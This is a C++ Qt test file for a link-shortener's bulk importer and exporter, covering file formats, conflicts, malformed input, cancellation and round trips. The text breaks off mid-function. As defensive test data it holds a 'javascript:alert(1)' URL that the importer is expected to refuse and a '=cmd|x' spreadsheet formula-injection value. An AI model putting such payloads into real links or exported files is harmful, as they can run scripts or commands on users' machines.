// The Importer and Exporter on a real database file: verdicts per row, dry runs, a second
// import, conflicts, malformed files that change nothing, and export -> import -> export.

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QTimeZone>

#include "bulktest.h"
#include "core/base/csv.h"
#include "core/base/sqlite.h"
#include "core/bulk/exporter.h"
#include "core/bulk/importer.h"
#include "core/bulk/tablereader.h"
#include "core/providers/localaddress.h"
#include "core/providers/localprovider.h"
#include "core/providers/providerstats.h"
#include "core/storage/accountrepository.h"
#include "core/storage/clickrollups.h"
#include "core/sync/backend.h"

using namespace Qt::StringLiterals;
using namespace Linkdeck;
using namespace Linkdeck::Bulk;
using namespace Linkdeck::Test;

namespace {

// The search index agrees with the links table (FTS5's integrity-check with rank 1 compares
// the index with its content table), and every trigger of a new database is there.
QString searchIndexProblem(Backend &backend)
{
    QSqlQuery q(backend.database().connection());
    if (!q.exec(u"INSERT INTO links_fts(links_fts, rank) VALUES ('integrity-check', 1)"_s))
        return q.lastError().text();
    return {};
}

QStringList triggers(Backend &backend)
{
    QSqlQuery q(backend.database().connection());
    q.exec(u"SELECT name || ': ' || sql FROM sqlite_master WHERE type = 'trigger' ORDER BY name"_s);
    QStringList out;
    while (q.next())
        out << q.value(0).toString();
    return out;
}

QStringList column(Backend &backend, const QString &sql)
{
    QSqlQuery q(backend.database().connection());
    if (!q.exec(sql))
        qFatal("%s: %s", qPrintable(sql), qPrintable(q.lastError().text()));
    QStringList out;
    while (q.next())
        out << q.value(0).toString();
    return out;
}

QStringList slugsFound(Backend &backend, const QString &text)
{
    LinkQuery query;
    query.text = text;
    QStringList slugs;
    for (const Link &l : backend.links().fetch(query, 0, 1000))
        slugs << l.slug;
    slugs.sort();
    return slugs;
}

}   // namespace

class TestImporter : public QObject
{
    Q_OBJECT
private slots:
    void init();
    void cleanup();
    void germanExcelFiles();
    void bitlyExportKeepsBackHalves();
    void shlinkExport();
    void invalidRowsSaySoAndTheRestImports();
    void dryRunCreatesNothing();
    void linksTakeThePublicAddress();
    void secondImportCreatesNothing();
    void importedLinksAreSearchable();
    void crashBeforeCommitLeavesConsistentDatabase();
    void duplicateRowsInOneFile();
    void duplicatesAcrossBatchesAndABoundedReport();
    void conflictModes();
    void malformedFilesChangeNothing_data();
    void malformedFilesChangeNothing();
    void cancelThenResume();
    void randomBackHalvesAreNotDoubled();
    void reportAsCsv();
    void exportImportRoundTrip_data();
    void exportImportRoundTrip();
    void xlsxExport();
    void exportBreakdowns_data();
    void exportBreakdowns();
    void exportBreakdownsGroupedAsPerLink();
    void stoppedExportLeavesNoFile_data() { exportBreakdowns_data(); }
    void stoppedExportLeavesNoFile();
    void csvExportGuardsFormulas();
    void parseTimes();

private:
    ImportReport import(const QByteArray &bytes, const ImportOptions &options = {}, Backend *backend = nullptr);
    std::optional<Link> link(const QString &slug, Backend *backend = nullptr);
    qint64 count(Backend *backend = nullptr);
    QString domain() const;

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<Backend> m_backend;
    int m_files = 0;
};

void TestImporter::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    m_backend = std::make_unique<Backend>();
    QVERIFY(m_backend->open(m_dir->filePath(u"links.sqlite"_s)));
}

void TestImporter::cleanup()
{
    m_backend.reset();
    m_dir.reset();
}

QString TestImporter::domain() const
{
    return m_backend->accounts().find(AccountRepository::LocalAccountId)->defaultDomain;
}

ImportReport TestImporter::import(const QByteArray &bytes, const ImportOptions &options, Backend *backend)
{
    Backend &b = backend ? *backend : *m_backend;
    const QString path = writeFile(*m_dir, u"import-%1.csv"_s.arg(++m_files), bytes);
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        qFatal("cannot open");
    const Account account = *b.accounts().find(AccountRepository::LocalAccountId);
    Importer importer(b.database(), b.links(), b.provider(account.id), account);
    if (auto r = importer.open(&file); !r) {
        ImportReport report;
        report.fileError = r.error();
        return report;
    }
    return importer.run(options);
}

std::optional<Link> TestImporter::link(const QString &slug, Backend *backend)
{
    Backend &b = backend ? *backend : *m_backend;
    return b.links().findBySlug(b.accounts().find(1)->defaultDomain, slug);
}

qint64 TestImporter::count(Backend *backend)
{
    return (backend ? *backend : *m_backend).links().totalCount();
}

void TestImporter::germanExcelFiles()
{
    const QString text = u"Ziel;Kürzel;Titel;Tags;utm_source\r\n"
                         "https://shop.example/käse;kaese;\"Käse; Wein\";\"essen, de\";newsletter\r\n"
                         "shop.example/brot;brot;Brot;;\r\n"_s;
    for (const QByteArray &bytes : {utf16le(text), utf8bom(text)}) {
        init();
        const ImportReport report = import(bytes);
        QVERIFY2(!report.fileError, qPrintable(report.summary()));
        QCOMPARE(report.created, 2);
        QCOMPARE(report.invalid, 0);
        const auto kaese = link(u"kaese"_s);
        QVERIFY(kaese);
        QCOMPARE(kaese->destination, u"https://shop.example/k%C3%A4se?utm_source=newsletter"_s);
        QCOMPARE(kaese->title, u"Käse; Wein"_s);
        QCOMPARE(kaese->tags, (QStringList{u"essen"_s, u"de"_s}));
        QCOMPARE(link(u"brot"_s)->destination, u"https://shop.example/brot"_s);   // https:// added
        cleanup();
    }
    init();
}

void TestImporter::bitlyExportKeepsBackHalves()
{
    const QByteArray bitly = "id,link,long_url,title,tags,created_at\n"
                             "bit.ly/3xYzAb,https://bit.ly/3xYzAb,https://shop.example/a,Flyer A,\"print,spring\","
                             "2025-07-28T14:30:00+0000\n"
                             "go.brand.com/sale,https://go.brand.com/sale,https://shop.example/sale,,,\n";
    const ImportReport report = import(bitly);
    QCOMPARE(report.created, 2);
    const auto a = link(u"3xYzAb"_s);
    QVERIFY(a);
    QCOMPARE(a->destination, u"https://shop.example/a"_s);
    QCOMPARE(a->title, u"Flyer A"_s);
    QCOMPARE(a->tags, (QStringList{u"print"_s, u"spring"_s}));
    QCOMPARE(a->createdAt, QDateTime(QDate(2025, 7, 28), QTime(14, 30), QTimeZone::utc()));
    QVERIFY(link(u"sale"_s));
}

void TestImporter::shlinkExport()
{
    const QByteArray shlink = "Created at,Short URL,Long URL,Title,Tags,Visits\r\n"
                              "2026-03-01T10:00:00+00:00,https://s.example/spr1,https://shop.example/spring,Spring,"
                              "spring|print,42\r\n";
    const ImportReport report = import(shlink);
    QCOMPARE(report.created, 1);
    const auto spring = link(u"spr1"_s);
    QVERIFY(spring);
    QCOMPARE(spring->destination, u"https://shop.example/spring"_s);
    QCOMPARE(spring->tags, (QStringList{u"spring"_s, u"print"_s}));
    QCOMPARE(spring->clicks, 0);   // visits elsewhere are not clicks here
}

void TestImporter::invalidRowsSaySoAndTheRestImports()
{
    const QByteArray csv = "url,slug,expires_at\n"
                           "https://ok.example/,ok,\n"
                           "javascript:alert(1),bad,\n"
                           "https://ok.example/2,has space,\n"
                           "https://ok.example/3,late,someday\n"
                           ",empty,\n"
                           "https://ok.example/4,fine,2030-01-01T00:00:00Z\n";
    const ImportReport report = import(csv);
    QCOMPARE(report.created, 2);
    QCOMPARE(report.invalid, 4);
    QCOMPARE(count(), 2);
    QStringList messages;
    for (const RowResult &r : report.rows) {
        if (r.verdict == Verdict::Invalid)
            messages << r.message;
    }
    QCOMPARE(messages.size(), 4);
    QVERIFY2(messages[0].startsWith(u"Row 3: "_s) && messages[0].contains(u"javascript:"_s), qPrintable(messages[0]));
    QVERIFY(messages[0].contains(u"refused"_s));
    QVERIFY2(messages[1].startsWith(u"Row 4: "_s), qPrintable(messages[1]));
    QVERIFY2(messages[2].startsWith(u"Row 5: "_s) && messages[2].contains(u"someday"_s), qPrintable(messages[2]));
    QVERIFY2(messages[3].startsWith(u"Row 6: "_s) && messages[3].contains(u"empty"_s), qPrintable(messages[3]));
    QCOMPARE(*link(u"fine"_s)->expiresAt, QDateTime(QDate(2030, 1, 1), QTime(0, 0), QTimeZone::utc()));
}

void TestImporter::dryRunCreatesNothing()
{
    const QByteArray csv = "url,slug\nhttps://a.example/,a\nhttps://b.example/,b\nftp://c.example/,c\n";
    ImportOptions dry;
    dry.dryRun = true;
    const ImportReport report = import(csv, dry);
    QVERIFY(report.dryRun);
    QCOMPARE(report.created, 2);
    QCOMPARE(report.invalid, 1);
    QCOMPARE(count(), 0);
    QCOMPARE(report.rows.at(0).verdictText(), u"will create"_s);
    QCOMPARE(report.rows.at(0).shortUrl, LocalProvider::shortUrlFor(domain(), u"a"_s));
    QVERIFY(!report.rows.at(0).done);
    QVERIFY(report.summary().startsWith(u"Dry run"_s));
}

// Issue 12: imported links on this computer get the public address's short URLs, its scheme
// too (http:// for a name on the team's network).
void TestImporter::linksTakeThePublicAddress()
{
    QVERIFY(LocalAddress::apply(m_backend->accounts(), m_backend->links(), u"http://links.lan"_s, 8080).ok());
    const ImportReport report = import("url,slug\nhttps://a.example/,a\n", {});
    QCOMPARE(report.created, 1);
    QCOMPARE(report.rows.at(0).shortUrl, u"http://links.lan/a"_s);
    QCOMPARE(link(u"a"_s)->shortUrl, u"http://links.lan/a"_s);
}

void TestImporter::secondImportCreatesNothing()
{
    QByteArray csv = "url,slug,title\n";
    for (int i = 0; i < 50; ++i)
        csv += "https://shop.example/" + QByteArray::number(i) + ",p" + QByteArray::number(i) + ",T\n";
    csv += "https://shop.example/random,,no back-half\n";
    const ImportReport first = import(csv);
    QCOMPARE(first.created, 51);
    QCOMPARE(count(), 51);
    const ImportReport second = import(csv);
    QCOMPARE(second.created, 0);
    QCOMPARE(second.existed, 51);
    QCOMPARE(second.rows.at(0).verdictText(), u"already there"_s);
    QCOMPARE(count(), 51);
    // A dry run of it says the same.
    ImportOptions dry;
    dry.dryRun = true;
    QCOMPARE(import(csv, dry).existed, 51);
}

void TestImporter::duplicateRowsInOneFile()
{
    const QByteArray csv = "url,slug\nhttps://a.example/,a\nhttps://a.example/,a\nhttps://other.example/,a\n";
    const ImportReport report = import(csv);
    QCOMPARE(report.created, 1);
    QCOMPARE(report.existed, 1);
    QCOMPARE(report.skipped, 1);
    QVERIFY(report.rows.at(2).message.startsWith(u"Row 4: "_s));
    QCOMPARE(link(u"a"_s)->destination, u"https://a.example/"_s);
}

void TestImporter::duplicatesAcrossBatchesAndABoundedReport()
{
    // Batches of two rows: a repeated row in a later batch is found in the database (the
    // importer forgets a batch once it is written), and in a dry run in what it remembers.
    const QByteArray csv = "url,slug\nhttps://a.example/,a\nhttps://b.example/,b\nhttps://c.example/,c\n"
                           "https://a.example/,a\nhttps://other.example/,b\nhttps://b.example/\n";
    ImportOptions options;
    options.batchSize = 2;
    ImportOptions dry = options;
    dry.dryRun = true;
    for (const ImportOptions &o : {dry, options}) {
        const ImportReport report = import(csv, o);
        QCOMPARE(report.created, 3);
        QCOMPARE(report.existed, 2);   // row 5, and row 7 (the same destination, no back-half)
        QCOMPARE(report.skipped, 1);   // row 6
        QCOMPARE(report.rows.at(4).verdict, Verdict::Conflict);
    }
    QCOMPARE(count(), 3);
    // The report keeps at most maxReportRows rows; the totals count them all.
    ImportOptions bounded;
    bounded.maxReportRows = 2;
    const ImportReport report = import(csv, bounded);
    QCOMPARE(report.rows.size(), 2);
    QCOMPARE(report.omittedRows, 4);
    QCOMPARE(report.total(), 6);
}

void TestImporter::conflictModes()
{
    QVERIFY(import("url,slug\nhttps://old.example/,spring\n").created == 1);
    const QByteArray csv = "url,slug,title\nhttps://new.example/,spring,New\n";

    ImportOptions skip;
    const ImportReport skipped = import(csv, skip);
    QCOMPARE(skipped.skipped, 1);
    QCOMPARE(skipped.rows.at(0).verdict, Verdict::Conflict);
    QVERIFY2(skipped.rows.at(0).message.contains(u"https://old.example/"_s), qPrintable(skipped.rows.at(0).message));
    QCOMPARE(link(u"spring"_s)->destination, u"https://old.example/"_s);

    ImportOptions rename;
    rename.onConflict = ConflictMode::Rename;
    ImportOptions dryRename = rename;
    dryRename.dryRun = true;
    QCOMPARE(import(csv, dryRename).rows.at(0).slug, u"spring-2"_s);
    QCOMPARE(count(), 1);
    const ImportReport renamed = import(csv, rename);
    QCOMPARE(renamed.renamed, 1);
    QCOMPARE(link(u"spring-2"_s)->destination, u"https://new.example/"_s);
    QCOMPARE(link(u"spring"_s)->destination, u"https://old.example/"_s);
    // Again: the renamed link is found, no spring-3.
    const ImportReport again = import(csv, rename);
    QCOMPARE(again.existed, 1);
    QCOMPARE(count(), 2);

    ImportOptions update;
    update.onConflict = ConflictMode::Update;
    const ImportReport updated = import(csv, update);
    QCOMPARE(updated.updated, 1);
    QCOMPARE(link(u"spring"_s)->destination, u"https://new.example/"_s);
    QCOMPARE(link(u"spring"_s)->title, u"New"_s);
    QCOMPARE(import(csv, update).existed, 1);
    QCOMPARE(count(), 2);
}

void TestImporter::malformedFilesChangeNothing_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("says");
    QByteArray late = "url,slug\n";
    for (int i = 0; i < 3000; ++i)
        late += "https://a.example/" + QByteArray::number(i) + ",a" + QByteArray::number(i) + "\n";
    late += "https://b.example/,\"b\n";   // the quote never closes, after more than a batch of good rows
    QTest::addRow("quote missing at the end") << late << u"Row 3002: a quoted field"_s;
    QTest::addRow("binary") << QByteArray("url,slug\nhttps://a.example/,a\n\0\0\x01\x02", 32) << u"binary data"_s;
    QTest::addRow("empty") << QByteArray() << u"The file is empty"_s;
    QTest::addRow("header only") << QByteArray("url,slug\r\n") << u"no links below them"_s;
    QTest::addRow("no destination column") << QByteArray("name,notes\nx,y\n") << u"No column holds the addresses"_s;
    QTest::addRow("headerless") << QByteArray("https://a.example/,a\nhttps://b.example/,b\n")
                                << u"No column holds the addresses"_s;
}

void TestImporter::malformedFilesChangeNothing()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, says);
    QVERIFY(import("url,slug\nhttps://before.example/,before\n").created == 1);
    ImportOptions small;
    small.batchSize = 1000;
    const ImportReport report = import(bytes, small);
    QVERIFY(report.fileError);
    QVERIFY2(report.fileError->message.contains(says), qPrintable(report.fileError->message));
    QVERIFY(report.summary().contains(u"Nothing was imported."_s));
    QCOMPARE(report.created, 0);
    QCOMPARE(count(), 1);
}

void TestImporter::cancelThenResume()
{
    QByteArray csv = "url,slug\n";
    for (int i = 0; i < 5000; ++i)
        csv += "https://shop.example/" + QByteArray::number(i) + ",c" + QByteArray::number(i) + "\n";
    const QString path = writeFile(*m_dir, u"big.csv"_s, csv);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const Account account = *m_backend->accounts().find(1);
    Importer importer(m_backend->database(), m_backend->links(), m_backend->provider(1), account);
    QVERIFY(importer.open(&file));
    QList<qint64> progress;
    connect(&importer, &Importer::progress, this, [&](qint64 done, qint64 total) {
        QCOMPARE(total, 5000);
        progress << done;
        if (done >= 1000)
            importer.cancel();
    });
    ImportOptions options;
    options.batchSize = 1000;
    const ImportReport stopped = importer.run(options);
    QVERIFY(stopped.cancelled);
    QCOMPARE(stopped.created, 1000);
    QCOMPARE(count(), 1000);
    QVERIFY(stopped.summary().contains(u"go on"_s));
    // A second run goes on where the first stopped.
    const ImportReport resumed = import(csv, options);
    QCOMPARE(resumed.existed, 1000);
    QCOMPARE(resumed.created, 4000);
    QCOMPARE(count(), 5000);
    QCOMPARE(link(u"c4999"_s)->destination, u"https://shop.example/4999"_s);
}

void TestImporter::randomBackHalvesAreNotDoubled()
{
    const QByteArray csv = "url\nhttps://a.example/\nhttps://b.example/\nhttps://a.example/\n";
    const ImportReport first = import(csv);
    QCOMPARE(first.created, 2);
    QCOMPARE(first.existed, 1);
    QCOMPARE(import(csv).existed, 3);
    QCOMPARE(count(), 2);
}

void TestImporter::reportAsCsv()
{
    const ImportReport report = import("url,slug\nhttps://a.example/,a\njavascript:x,b\n");
    QBuffer out;
    out.open(QIODevice::WriteOnly);
    QVERIFY(report.writeCsv(&out));
    const QString text = QString::fromUtf8(out.data());
    QVERIFY(out.data().startsWith("\xEF\xBB\xBF"));
    QVERIFY2(text.contains(u"\r\n2,created,"_s + LocalProvider::shortUrlFor(domain(), u"a"_s)), qPrintable(text));
    QVERIFY2(text.contains(u"\r\n3,invalid,,javascript:x,Row 3: Links that run a script (javascript:) are refused"_s),
             qPrintable(text));
}

void TestImporter::exportImportRoundTrip_data()
{
    QTest::addColumn<int>("format");
    QTest::addRow("csv") << int(ExportFormat::Csv);
    QTest::addRow("json") << int(ExportFormat::Json);
}

void TestImporter::exportImportRoundTrip()
{
    QFETCH(int, format);
    // Links with every field, made here.
    QList<Link> links;
    const QDateTime created(QDate(2026, 5, 1), QTime(8, 0, 0, 123), QTimeZone::utc());
    for (int i = 0; i < 30; ++i) {
        Link l;
        l.accountId = 1;
        l.domain = i % 2 ? domain() : u"go.brand.example"_s;
        l.slug = u"rt-%1"_s.arg(i);
        l.shortUrl = LocalProvider::shortUrlFor(l.domain, l.slug);
        l.destination = u"https://shop.example/p/%1?ref=a&utm_source=news&utm_campaign=spring%20sale"_s.arg(i);
        l.title = i % 3 ? u"Title, with \"quotes\"\nand a line"_s : QString();
        l.tags = i % 4 ? QStringList{u"print"_s, u"spring"_s} : QStringList();
        l.createdAt = created.addSecs(i * 60);
        l.updatedAt = l.createdAt;
        if (i % 5 == 0)
            l.expiresAt = QDateTime(QDate(2027, 1, 1), QTime(0, 0), QTimeZone::utc());
        if (i % 5 == 1)
            l.validSince = QDateTime(QDate(2026, 6, 1), QTime(9, 30), QTimeZone::utc());
        if (i % 7 == 0) {
            l.maxClicks = 100;
            l.fallbackUrl = u"https://shop.example/ended"_s;
        }
        l.redirectStatus = i % 2 ? 301 : 0;
        l.forwardQuery = i % 3 != 0;
        l.crawlable = i % 2 == 0;
        links << l;
    }
    QVERIFY(m_backend->links().insertMany(links));
    LinkQuery all;
    all.order = Qt::AscendingOrder;
    const QString suffix = format == int(ExportFormat::Csv) ? u"csv"_s : u"json"_s;
    const QString first = m_dir->filePath(u"first."_s + suffix);
    const Result<qint64> written = Exporter::write(m_backend->links(), all, ExportFormat(format), first);
    QVERIFY(written);
    QCOMPARE(*written, 30);

    // Into another database, and out again: the same file.
    QTemporaryDir otherDir;
    Backend other;
    QVERIFY(other.open(otherDir.filePath(u"links.sqlite"_s)));
    const ImportReport report = import(readFile(first), {}, &other);
    QVERIFY2(!report.fileError, qPrintable(report.summary()));
    QCOMPARE(report.created, 30);
    const QString second = m_dir->filePath(u"second."_s + suffix);
    QVERIFY(Exporter::write(other.links(), all, ExportFormat(format), second));
    const QByteArray a = readFile(first);
    const QByteArray b = readFile(second);
    QCOMPARE(QString::fromUtf8(b), QString::fromUtf8(a));
    if (format == int(ExportFormat::Csv)) {
        QVERIFY(a.startsWith("\xEF\xBB\xBF"
                             "short_url,domain,slug,destination,"));
    }
    // And once more into the same database: nothing new.
    QCOMPARE(import(a, {}, &other).existed, 30);
}

void TestImporter::xlsxExport()
{
    QVERIFY(
        import(
            "url,slug,title,tags,max_clicks,expires_at\nhttps://a.example/?utm_source=x,a,\"Ä, \"\"b\"\"\r\n_x0041_\",\"t1, t2\",5,"
            "2027-01-01T00:00:00Z\nhttps://b.example/,b,B,,,\n")
            .created
        == 2);
    const QString path = m_dir->filePath(u"links.xlsx"_s);
    LinkQuery all;
    all.order = Qt::AscendingOrder;
    const Result<qint64> written = Exporter::write(m_backend->links(), all, ExportFormat::Xlsx, path);
    QVERIFY2(written, written ? "" : qPrintable(written.error().message));
    QCOMPARE(*written, 2);
    const QByteArray bytes = readFile(path);
    QVERIFY(bytes.startsWith("PK\x03\x04"));   // a zip, as XLSX is
    // No temporary file is left beside it.
    QCOMPARE(QDir(m_dir->path()).entryList({u".linkdeck-export-*"_s}, QDir::Hidden | QDir::Files).size(), 0);

    // The workbook imports back: the same links, as the CSV export of both shows.
    QTemporaryDir otherDir;
    Backend other;
    QVERIFY(other.open(otherDir.filePath(u"links.sqlite"_s)));
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const Account account = *other.accounts().find(1);
    Importer importer(other.database(), other.links(), other.provider(1), account);
    QVERIFY(importer.open(&file));
    QCOMPARE(importer.mapping().detectedSource(), u"Linkdeck"_s);
    const ImportReport report = importer.run({});
    QCOMPARE(report.created, 2);
    QVERIFY(Exporter::write(m_backend->links(), all, ExportFormat::Csv, m_dir->filePath(u"a.csv"_s)));
    QVERIFY(Exporter::write(other.links(), all, ExportFormat::Csv, m_dir->filePath(u"b.csv"_s)));
    QCOMPARE(QString::fromUtf8(readFile(m_dir->filePath(u"b.csv"_s))),
             QString::fromUtf8(readFile(m_dir->filePath(u"a.csv"_s))));

    // A place it cannot be written says so, and leaves nothing.
    const Result<qint64> refused =
        Exporter::write(m_backend->links(), LinkQuery{}, ExportFormat::Xlsx, m_dir->filePath(u"no/such/dir.xlsx"_s));
    QVERIFY(!refused);
    QVERIFY(refused.error().message.contains(u"cannot be written"_s));
}

// The breakdowns read a page of links at a time in grouped queries give the very file the
// query per link and dimension gave: 2,600 links over two pages and three chunks of 1,000,
// with bots' clicks, A/B variants, values in any script, ties, links without clicks, and
// service links with kept statistics, with some only, and without any.
void TestImporter::exportBreakdownsGroupedAsPerLink()
{
    Account bitly;
    bitly.provider = ProviderKind::Bitly;
    bitly.name = u"Bitly"_s;
    bitly.apiBase = u"http://127.0.0.1:9/"_s;
    const Result<Account> added = m_backend->accounts().add(bitly);
    QVERIFY(added);
    const QDateTime created(QDate(2021, 3, 1), QTime(9, 0), QTimeZone::utc());
    QList<Link> links;
    for (int i = 0; i < 2600; ++i) {
        Link l;
        const bool remote = i % 7 == 3;
        l.accountId = remote ? added->id : AccountRepository::LocalAccountId;
        l.domain = remote ? u"bit.ly"_s : domain();
        l.slug = u"l%1"_s.arg(i);
        l.remoteId = remote ? u"bit.ly/"_s + l.slug : QString();
        l.shortUrl = remote ? u"https://bit.ly/"_s + l.slug : LocalProvider::shortUrlFor(l.domain, l.slug);
        l.destination = u"https://shop.example/"_s + l.slug;
        l.createdAt = created.addSecs(i);
        links << l;
    }
    QVERIFY(m_backend->links().insertMany(links));
    const QStringList countries{u"DE"_s, u"US"_s, QString(), u"FR"_s, u"日本"_s};
    const QStringList referrers{u"t.co"_s, QString(), u"news.example"_s, u"=cmd|x"_s};
    QSqlDatabase db = m_backend->database().connection();
    ProviderStats stats(m_backend->database());
    QVERIFY(db.transaction());
    for (int i = 0; i < links.size(); ++i) {
        const QString slug = u"l%1"_s.arg(i);
        if (i % 7 == 3) {
            const QString id = u"bit.ly/"_s + slug;
            const QDateTime from = created.addDays(-1);
            const QDateTime to(QDate(2100, 1, 1), QTime(0, 0), QTimeZone::utc());
            if (i % 3 == 0) {   // countries and referrers kept; devices only for a later period
                QVERIFY(stats.storeShares(added->id, id, ProviderStats::breakdownKey(u"country"_s, from, to),
                                          {{u"FR"_s, i % 5}, {u"DE"_s, 9}, {QString(), 2}}));
                QVERIFY(stats.storeShares(added->id, id, ProviderStats::breakdownKey(u"referrer"_s, from, to),
                                          {{QString(), 13}}));
                QVERIFY(stats.storeShares(added->id, id, ProviderStats::breakdownKey(u"device"_s, from.addYears(1), to),
                                          {{u"mobile"_s, 2}}));
            } else if (i % 3 == 1) {   // a period that ended before the fetch: not the whole life
                QVERIFY(stats.storeShares(
                    added->id, id, ProviderStats::breakdownKey(u"country"_s, from, from.addYears(1)), {{u"IT"_s, 1}}));
            }
            continue;   // i % 3 == 2: nothing kept
        }
        if (i % 11 == 5)
            continue;   // no clicks
        const qint64 linkId = link(slug)->id;
        for (int h = 0; h < 1 + i % 4; ++h) {
            const qint64 hour =
                QDateTime(QDate(2022, 1 + h, 1 + i % 28), QTime(h, 0), QTimeZone::utc()).toSecsSinceEpoch();
            const qint64 people = 3 + (i + h) % 9;
            const qint64 bots = (i + h) % 3;
            QList<Rollups::Count> counts{
                {u"country"_s, countries.at((i + h) % countries.size()), people - 1},
                {u"country"_s, countries.at((i + h + 1) % countries.size()), 1},
                {u"bot:country"_s, u"CN"_s, bots},
                {u"referrer"_s, referrers.at((i * 3 + h) % referrers.size()), people},
                {u"bot:referrer"_s, u"crawler.example"_s, bots},
                {u"device"_s, h % 2 ? u"mobile"_s : u"desktop"_s, people},
                {u"browser"_s, u"Firefox"_s, people / 2},
                {u"browser"_s, u"Chrome"_s, people - people / 2},
                {u"os"_s, i % 2 ? u"Linux"_s : u"Windows"_s, people},
                {u"variant"_s, u"%1"_s.arg(1 + h % 2), people},
            };
            QVERIFY(Rollups::addHour(db, linkId, hour, people, bots, counts));
        }
    }
    QVERIFY(db.commit());

    LinkQuery all;
    all.order = Qt::AscendingOrder;
    for (const ExportFormat format : {ExportFormat::Csv, ExportFormat::Json}) {
        QByteArray files[2];
        ExportResult results[2];
        for (int way = 0; way < 2; ++way) {
            ExportOptions options;
            options.breakdowns = true;
            options.queries = way ? BreakdownQueries::PerLink : BreakdownQueries::Grouped;
            const QString path =
                m_dir->filePath(u"way%1.%2"_s.arg(way).arg(format == ExportFormat::Csv ? u"csv"_s : u"json"_s));
            const Result<ExportResult> written =
                Exporter::write(m_backend->database(), m_backend->links(), all, format, path, options);
            QVERIFY2(written, written ? "" : qPrintable(written.error().message));
            results[way] = *written;
            files[way] = readFile(path);
        }
        QCOMPARE(results[0].written, 2600);
        QCOMPARE(results[0].written, results[1].written);
        QCOMPARE(results[0].withoutBreakdowns, results[1].withoutBreakdowns);
        QCOMPARE(results[0].fromServices, results[1].fromServices);
        QVERIFY(results[0].fromServices > 100 && results[0].withoutBreakdowns > 200);
        QVERIFY(files[0].contains("日本") && files[0].contains("(direct)") && !files[0].contains("crawler"));
        QVERIFY2(files[0] == files[1], "the grouped queries' file differs from the per-link one");
    }
}

// An export with breakdowns says how far it got after each page of links, and one stopped
// half way (Cancel) leaves the file that was at the path as it was and nothing beside it.
void TestImporter::stoppedExportLeavesNoFile()
{
    QFETCH(int, format);
    QList<Link> links;
    for (int i = 0; i < 4500; ++i) {
        Link l;
        l.accountId = AccountRepository::LocalAccountId;
        l.domain = domain();
        l.slug = u"p%1"_s.arg(i);
        l.shortUrl = LocalProvider::shortUrlFor(l.domain, l.slug);
        l.destination = u"https://shop.example/"_s + l.slug;
        links << l;
    }
    QVERIFY(m_backend->links().insertMany(links));
    QVERIFY(Rollups::addHour(m_backend->database().connection(), link(u"p1"_s)->id, 3600 * 500000, 4, 1,
                             {{u"country"_s, u"DE"_s, 4}, {u"bot:country"_s, u"DE"_s, 1}}));
    QTemporaryDir out;
    const QString path = out.filePath(u"links."_s + QStringList{u"csv"_s, u"json"_s, u"xlsx"_s}.at(format));
    {
        QFile earlier(path);
        QVERIFY(earlier.open(QIODevice::WriteOnly));
        earlier.write("earlier");
    }
    ExportOptions options;
    options.breakdowns = true;
    QList<qint64> seen;
    const auto stopAtSecond = [&](qint64 written) {
        seen << written;
        return seen.size() < 2;
    };
    const Result<ExportResult> stopped = Exporter::write(m_backend->database(), m_backend->links(), LinkQuery{},
                                                         ExportFormat(format), path, options, stopAtSecond);
    QVERIFY(!stopped);
    QCOMPARE(stopped.error().message, u"The export was stopped; no file was written."_s);
    QCOMPARE(seen, (QList<qint64>{2000, 4000}));
    QCOMPARE(readFile(path), QByteArray("earlier"));
    QCOMPARE(QDir(out.path()).entryList(QDir::Files | QDir::Hidden), QStringList{QFileInfo(path).fileName()});

    seen.clear();
    const Result<ExportResult> whole = Exporter::write(m_backend->database(), m_backend->links(), LinkQuery{},
                                                       ExportFormat(format), path, options, [&](qint64 written) {
                                                           seen << written;
                                                           return true;
                                                       });
    QVERIFY(whole);
    QCOMPARE(whole->written, 4500);
    QCOMPARE(seen, (QList<qint64>{2000, 4000, 4500}));
    QVERIFY(readFile(path) != QByteArray("earlier"));
}

void TestImporter::exportBreakdowns_data()
{
    QTest::addColumn<int>("format");
    QTest::addRow("csv") << int(ExportFormat::Csv);
    QTest::addRow("json") << int(ExportFormat::Json);
    QTest::addRow("xlsx") << int(ExportFormat::Xlsx);
}

// links export --breakdowns: each link's countries, referrers, devices, browsers and systems,
// people's clicks over its whole life as the statistics count them (bots left out), most
// first; a link of a service has none (empty, and said once); without the option the file is
// as before; and the file imports back as already there.
void TestImporter::exportBreakdowns()
{
    QFETCH(int, format);
    const auto exportFormat = ExportFormat(format);
    const QString suffix = QStringList{u"csv"_s, u"json"_s, u"xlsx"_s}.at(format);
    QList<Link> links;
    for (const QString &slug : {u"clicked"_s, u"quiet"_s, u"guard"_s}) {
        Link l;
        l.accountId = AccountRepository::LocalAccountId;
        l.domain = domain();
        l.slug = slug;
        l.shortUrl = LocalProvider::shortUrlFor(l.domain, l.slug);
        l.destination = u"https://shop.example/"_s + slug;
        l.createdAt = QDateTime(QDate(2020, 1, 1), QTime(8, 0), QTimeZone::utc());
        links << l;
    }
    Account bitly;
    bitly.provider = ProviderKind::Bitly;
    bitly.name = u"Bitly"_s;
    bitly.apiBase = u"http://127.0.0.1:9/"_s;
    const Result<Account> added = m_backend->accounts().add(bitly);
    QVERIFY(added);
    Link remote;
    remote.accountId = added->id;
    remote.remoteId = u"bit.ly/4abc"_s;
    remote.domain = u"bit.ly"_s;
    remote.slug = u"4abc"_s;
    remote.shortUrl = u"https://bit.ly/4abc"_s;
    remote.destination = u"https://shop.example/remote"_s;
    remote.clicks = 40;
    remote.createdAt = QDateTime(QDate(2020, 1, 2), QTime(8, 0), QTimeZone::utc());
    links << remote;
    // A service's link whose statistics were shown from its first day on: its countries and
    // referrers are kept here (the devices only for a later period, which is not its whole life).
    Link kept = remote;
    kept.remoteId = u"bit.ly/4kept"_s;
    kept.slug = u"4kept"_s;
    kept.shortUrl = u"https://bit.ly/4kept"_s;
    links << kept;
    QVERIFY(m_backend->links().insertMany(links));
    {
        ProviderStats stats(m_backend->database());
